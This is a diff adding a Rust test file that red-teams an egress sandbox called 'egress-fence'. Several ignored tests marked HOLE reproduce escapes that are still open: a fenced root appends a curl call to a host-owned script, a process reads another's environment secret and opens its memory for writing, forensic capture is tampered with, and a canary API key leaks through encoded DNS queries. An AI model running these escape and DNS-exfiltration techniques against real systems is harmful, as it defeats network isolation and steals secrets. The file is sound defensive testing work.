@@ -1,0 +1,252 @@
+//! Round 2 of the red team (issue 12's `exec` and issue 11's closed scope holes): what CMD,
+//! inside `egress-fence exec`, as root without capabilities or as `--user`, can reach past
+//! the fence. Tests marked `HOLE` reproduce a way out that is still open.
+
+use std::process::{Command, Output, Stdio};
+
+use crate::common::*;
+
+const PORT: u16 = 8080;
+const ALLOWED: &str = "registry.example.test";
+
+fn policy_text() -> String {
+    format!(
+        "version: 1\nallow:\n  - domain: \"{ALLOWED}\"\n    ports: [{PORT}]\n\
+         dns:\n  mode: guard\n  listen: [\"{GUARD_ADDR}\"]\n  upstream: [{DNS_V4}]\n\
+         log:\n  group: 100\n  rate: 1000/second\n  burst: 1000\n"
+    )
+}
+
+fn setup(w: &World) -> String {
+    w.dns_set(ALLOWED, &[HOST_V4], 60);
+    w.write_file("exec.yaml", &policy_text())
+        .to_str()
+        .expect("utf-8 path")
+        .to_string()
+}
+
+fn exec_command(w: &World, policy: &str, extra: &[&str], script: &str) -> Command {
+    let mut cmd = Command::new("timeout");
+    cmd.args(["-k", "5", "40", EGRESS_FENCE_BIN, "exec"])
+        .args(["--netns", w.sandbox_name(), "--policy", policy])
+        .args(extra)
+        .args(["--", "sh", "-c", script])
+        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
+        .stdin(Stdio::null());
+    cmd
+}
+
+fn exec(w: &World, policy: &str, extra: &[&str], script: &str) -> Output {
+    exec_command(w, policy, extra, script)
+        .output()
+        .expect("run egress-fence exec")
+}
+
+fn show(out: &Output) -> String {
+    format!(
+        "exit {:?}\n--- stdout ---\n{}\n--- stderr ---\n{}",
+        out.status.code(),
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+/// Root without capabilities is still uid 0: it owns every root-owned file and directory of
+/// the host (the inside's mount namespace is a copy of the host's, read-write), so it can
+/// plant what an unfenced root process later runs (/etc/cron.d, a systemd unit, the policy,
+/// egress-fence's own binary) and so reach the network past the fence. Shown on a file of
+/// the test's own: a root-owned 0644 script, as a cron job or a unit would be.
+#[test]
+#[ignore = "HOLE: CMD as root without capabilities still owns (and rewrites) every root-owned file of the host"]
+fn root_without_capabilities_cannot_rewrite_a_root_owned_file_of_the_host() {
+    use std::os::unix::fs::PermissionsExt;
+    let w = World::new();
+    let policy = setup(&w);
+    let job = w.write_file("job.sh", "#!/bin/sh\ntrue\n");
+    std::fs::set_permissions(&job, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    let out = exec(
+        &w,
+        &policy,
+        &[],
+        &format!(
+            "echo 'curl http://203.0.113.10/' >> {} && echo rewrote",
+            job.display()
+        ),
+    );
+    let text = std::fs::read_to_string(&job).expect("read the job");
+    assert!(
+        !text.contains("curl"),
+        "CMD rewrote a root-owned file of the host: {text:?}\n{}",
+        show(&out)
+    );
+}
+
+/// `--user`: /proc is the host's (the inside's pid namespace has no /proc of its own), so
+/// CMD sees every process of the host by its host pid, and may read the environment of, and
+/// open for writing the memory of, any process of the same user outside the fence: an
+/// unfenced process it can make do anything (ptrace by /proc/PID/mem needs no pid of CMD's
+/// namespace).
+#[test]
+#[ignore = "HOLE: CMD reads /proc/PID/environ and writes /proc/PID/mem of the same user's unfenced processes (host /proc)"]
+fn cmd_cannot_reach_an_unfenced_process_of_its_own_user_through_proc() {
+    let w = World::new();
+    let policy = setup(&w);
+    let mut outside = Command::new("setpriv")
+        .args([
+            "--reuid=nobody",
+            "--regid=nogroup",
+            "--clear-groups",
+            "sleep",
+            "30",
+        ])
+        .env("OUTSIDE_SECRET", "hunter2-outside")
+        .spawn()
+        .expect("start a process of nobody outside the fence");
+    let pid = outside.id();
+    let out = exec(
+        &w,
+        &policy,
+        &["--user", "nobody"],
+        &format!(
+            "tr '\\0' '\\n' < /proc/{pid}/environ | grep OUTSIDE_SECRET; \
+             python3 -c \"open('/proc/{pid}/mem','r+b'); print('mem-writable')\""
+        ),
+    );
+    let _ = outside.kill();
+    let _ = outside.wait();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        !stdout.contains("hunter2-outside") && !stdout.contains("mem-writable"),
+        "CMD reached an unfenced process of its user\n{}",
+        show(&out)
+    );
+}
+
+/// A wildcard policy whose questions go upstream; the canary is looked for in pasta's
+/// capture, a file in the run's directory that CMD as root (owner of root's files) can
+/// rewrite before exec reads it at exit.
+#[test]
+#[ignore = "HOLE: CMD as root rewrites pasta's capture (root-owned, in the run's directory) and the canary sent upstream goes unseen"]
+fn cmd_cannot_erase_the_canary_from_pastas_capture() {
+    let w = World::new();
+    let text = policy_text().replace(
+        "allow:\n",
+        &format!("allow:\n  - domain: \"*.wild.test\"\n    ports: [{PORT}]\n"),
+    );
+    let policy = w.write_file("wild.yaml", &text);
+    let state = w.state_dir();
+    let script = format!(
+        "dig +time=1 +tries=1 \"$CANARY_API_KEY.wild.test\" >/dev/null; sleep 0.5; \
+         for f in $(find {} -name pasta.pcap); do python3 -c \"import os,sys; f=sys.argv[1]; t=os.environ['CANARY_API_KEY'].encode(); d=open(f,'rb').read(); o=open(f,'r+b'); o.write(d.replace(t, b'x'*len(t))); print('erased')\" $f; done; exit 0",
+        state.display()
+    );
+    let out = exec(
+        &w,
+        policy.to_str().expect("utf-8 path"),
+        &["--canary"],
+        &script,
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(99),
+        "the canary left and was not seen\n{}",
+        show(&out)
+    );
+}
+
+/// The canary searched in refused questions, with encodings its needles do not cover: each
+/// run leaks the whole token in one way, refused by the guard, and must trip.
+fn canary_trips(leak: &str) -> Output {
+    let w = World::new();
+    let policy = setup(&w);
+    exec(
+        &w,
+        &policy,
+        &["--canary"],
+        &format!(
+            "name=$(python3 -c \"import base64,os; t=os.environ['CANARY_API_KEY']; {leak}\"); \
+             for n in $name; do dig +time=1 +tries=1 \"$n.exfil.test\" >/dev/null; done; exit 0"
+        ),
+    )
+}
+
+#[test]
+#[ignore = "HOLE: the canary misses the token reversed"]
+fn the_canary_trips_on_the_token_reversed() {
+    let out = canary_trips("print(t[::-1])");
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+}
+
+#[test]
+#[ignore = "HOLE: the canary misses the token split across two questions"]
+fn the_canary_trips_on_the_token_split_across_questions() {
+    let out = canary_trips("print(t[:20], t[20:])");
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+}
+
+#[test]
+#[ignore = "HOLE: the canary misses base32 of the token shifted by one byte"]
+fn the_canary_trips_on_an_encoding_shifted_by_a_byte() {
+    let out = canary_trips(
+        "e=base64.b32encode(b'x'+t.encode()).decode().rstrip('='); print(e[:40]+'.'+e[40:])",
+    );
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+}
+
+/// What held: pasta (root, with CAP_NET_ADMIN and CAP_SYS_ADMIN, in CMD's pid namespace) can
+/// be signalled by CMD as root (same uid) but not traced nor its memory or namespaces
+/// opened; a user namespace cannot map root (no CAP_SETFCAP); a raw or an ICMP socket is
+/// refused; the gateway, pasta's DNS address and IPv6 past the policy are refused by the
+/// table.
+#[test]
+fn pasta_user_namespaces_raw_sockets_and_pastas_addresses_hold() {
+    let w = World::new();
+    let policy = setup(&w);
+    let listener = w.listen_tcp(HOST_V4, 9090);
+    let script = r#"
+for p in $(ls /proc | grep '^[0-9]'); do case "$(cat /proc/$p/comm 2>/dev/null)" in passt*|pasta*) P=$p;; esac; done
+test -n "$P" && echo found-pasta
+NS=$(grep NSpid /proc/$P/status | awk '{print $NF}')
+python3 -c "import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(16, int(sys.argv[1]), 0, 0); print('ptrace-attached' if r == 0 else 'ptrace-refused')" $NS
+python3 -c "open('/proc/$P/mem','rb').read(1); print('mem-read')" 2>/dev/null
+cat /proc/$P/environ >/dev/null 2>&1 && echo environ-read
+nsenter --user=/proc/$P/ns/user true 2>/dev/null && echo entered-userns
+nsenter --net=/proc/1/ns/net true 2>/dev/null && echo entered-netns
+unshare -Ur true 2>/dev/null && echo mapped-root
+python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print("raw-socket")' 2>/dev/null
+python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); print("icmp-socket")' 2>/dev/null
+python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("packet-socket")' 2>/dev/null
+nc -z -w 2 198.51.100.1 53 && echo gateway-open
+nc -z -w 2 192.0.2.10 9090 && echo other-port-open
+nc -z -w 2 2001:db8:ffff::1 53 && echo gateway6-open
+dig +time=1 +tries=1 @169.254.1.1 registry.example.test >/dev/null && echo pasta-dns-answered
+echo done
+"#;
+    let out = exec(&w, &policy, &[], script);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("found-pasta")
+            && stdout.contains("ptrace-refused")
+            && stdout.contains("done"),
+        "{}",
+        show(&out)
+    );
+    for got in [
+        "ptrace-attached",
+        "mem-read",
+        "environ-read",
+        "entered-userns",
+        "entered-netns",
+        "mapped-root",
+        "raw-socket",
+        "icmp-socket",
+        "packet-socket",
+        "gateway-open",
+        "other-port-open",
+        "gateway6-open",
+        "pasta-dns-answered",
+    ] {
+        assert!(!stdout.contains(got), "{got}\n{}", show(&out));
+    }
+    assert_eq!(listener.count(), 0, "{}", show(&out));
+}
